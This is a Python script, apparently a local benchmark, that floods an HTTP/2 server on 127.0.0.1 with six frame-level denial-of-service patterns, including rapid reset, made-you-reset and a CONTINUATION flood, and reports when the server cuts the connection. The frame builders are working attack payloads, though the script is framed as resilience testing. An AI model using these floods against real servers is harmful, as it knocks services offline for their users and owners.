"""Six floods of HTTP/2, each a stream of frames that cost the sender little. Runs as a program of its own: it
floods one connection after the other at a fixed rate until its time is up, and reports how it was stopped."""

from __future__ import annotations

import argparse
import json
import socket
import ssl
import statistics
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Types and flags of RFC 9113, section 6.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8

# Frames of one connection after which a server is said to absorb the flood.
FRAMES = 20_000
BATCH_SECONDS = 0.01


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def request(method: int) -> bytes:
    """A header block: indexed method and scheme https, literal path and authority (RFC 7541)."""
    path, authority = b"/20b", b"bench.example"
    literals = b"\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(authority)]) + authority
    return bytes([0x80 | method, 0x87]) + literals


GET, POST = request(2), request(3)


def rapid_reset(number: int) -> bytes:
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(
        RST_STREAM, 0, stream, struct.pack(">I", CANCEL)
    )


def made_you_reset(number: int) -> bytes:
    """A window of 0 is an error that the server answers with a reset of its own."""
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuation(number: int) -> bytes:
    """A head that never ends, in pieces of 1 KiB."""
    if number == 0:
        return frame(HEADERS, 0, 1, GET)
    name = b"x-%07d" % number
    return frame(CONTINUATION, 0, 1, b"\x00" + bytes([len(name)]) + name + b"\x7f\xe1\x06" + b"a" * 992)


def empty_data(number: int) -> bytes:
    return frame(HEADERS, END_HEADERS, 1, POST) if number == 0 else frame(DATA, 0, 1)


def ping(number: int) -> bytes:
    return frame(PING, 0, 0, struct.pack(">Q", number))


def settings(_number: int) -> bytes:
    return frame(SETTINGS, 0, 0)


FLOODS: dict[str, Callable[[int], bytes]] = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation": continuation,
    "empty-data": empty_data,
    "ping": ping,
    "settings": settings,
}


@dataclass(frozen=True)
class Flood:
    """What became of one connection."""

    frames: int
    cut: bool
    seconds: float


class NoHttp2(Exception):
    """The server answers, but not in HTTP/2."""


class Connection:
    """A TLS connection that speaks HTTP/2 and takes whatever the server says."""

    def __init__(self, port: int) -> None:
        context = ssl._create_unverified_context()  # noqa: S323
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=5)
        self._socket = context.wrap_socket(raw, server_hostname="bench.example")
        if self._socket.selected_alpn_protocol() != "h2":
            raise NoHttp2("the server chose another protocol")
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self._socket.setblocking(False)
        self._pending = b""

    def send(self, data: bytes) -> bool:
        """Sends what fits without waiting for long; False once the server has closed."""
        self._pending += data
        deadline = time.monotonic() + 1
        try:
            while self._pending and time.monotonic() < deadline:
                if not self._drain():
                    return False
                try:
                    self._pending = self._pending[self._socket.send(self._pending) :]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    time.sleep(0.001)
            return self._drain()
        except OSError:
            return False

    def is_open(self) -> bool:
        try:
            return self._drain()
        except OSError:
            return False

    def close(self) -> None:
        self._socket.close()

    def _drain(self) -> bool:
        try:
            while self._socket.recv(65536):
                pass
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        return False


def flood(make: Callable[[int], bytes], port: int, rate: float, until: float) -> Flood:
    """One connection: frames at the rate until it is closed, has sent them all, or the time is up."""
    began = time.monotonic()
    connection = Connection(port)
    sent = 0
    try:
        while sent < FRAMES and time.monotonic() < until:
            due = min(FRAMES, int((time.monotonic() - began + BATCH_SECONDS) * rate))
            batch = b"".join(make(number) for number in range(sent, due))
            if not connection.send(batch):
                return Flood(due, True, time.monotonic() - began)
            sent = max(sent, due)
            time.sleep(BATCH_SECONDS)
        # A server may need a moment to say that it had enough.
        time.sleep(min(0.5, max(0.0, until - time.monotonic())))
        return Flood(sent, not connection.is_open(), time.monotonic() - began)
    finally:
        connection.close()


def floods(make: Callable[[int], bytes], port: int, rate: float, seconds: float) -> Iterator[Flood]:
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            yield flood(make, port, rate, until)
        except OSError:
            # Refused or closed during the handshake: a ban is an answer too.
            yield Flood(0, True, 0.0)
            time.sleep(BATCH_SECONDS)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--flood", choices=list(FLOODS), required=True)
    parser.add_argument("--rate", type=float, required=True, help="frames, or pairs of them, per second")
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    try:
        Connection(options.port).close()
    except (OSError, NoHttp2) as error:
        json.dump({"error": f"there is no HTTP/2 to flood: {error}"}, sys.stdout)
        return 1
    seen = list(floods(FLOODS[options.flood], options.port, options.rate, options.seconds))
    cut = [it for it in seen if it.cut]
    report = {
        "connections": len(seen),
        "cut": len(cut),
        "frames": sum(it.frames for it in seen),
        "frames_until_cut": statistics.median(it.frames for it in cut) if cut else None,
        "seconds_until_cut": statistics.median(it.seconds for it in cut) if cut else None,
    }
    json.dump(report, sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
